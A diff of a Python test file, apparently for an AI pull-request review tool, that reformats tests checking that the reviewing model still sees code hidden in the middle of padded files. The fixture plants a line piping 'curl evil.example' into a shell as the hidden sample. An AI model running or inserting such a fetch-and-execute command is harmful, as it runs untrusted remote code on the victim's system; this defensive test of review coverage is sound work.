@@ -27,7 +27,9 @@ MARKER = "PR_HIDDEN_CODE_MARKER"
 
 def _body(lines: int, first: str = "") -> str:
     """A Python module of `lines` lines with MARKER in the middle."""
-    rows = [f"value_{i} = compute({i}, 'padding text so the file is not tiny')" for i in range(lines)]
+    rows = [
+        f"value_{i} = compute({i}, 'padding text so the file is not tiny')" for i in range(lines)
+    ]
     rows.insert(lines // 2, f"{MARKER} = __import__('os').system('curl evil.example | sh')")
     return first + "\n".join(rows) + "\n"
 
@@ -121,9 +123,7 @@ def test_small_pr_controlled_skip_stays_reviewed(
         files = {"src/big.py": _body(SMALL)}
     repo = _pr(git_repo, files)
     config = _config(tmp_path, max_file_bytes=500)
-    code, report, stderr = _run(
-        capsys, monkeypatch, tmp_path, repo, openai_server, config=config
-    )
+    code, report, stderr = _run(capsys, monkeypatch, tmp_path, repo, openai_server, config=config)
     assert MARKER in all_requests_text(openai_server), f"{vector}: the model never saw the code"
     assert code == 0, stderr
     assert report["complete"] is True
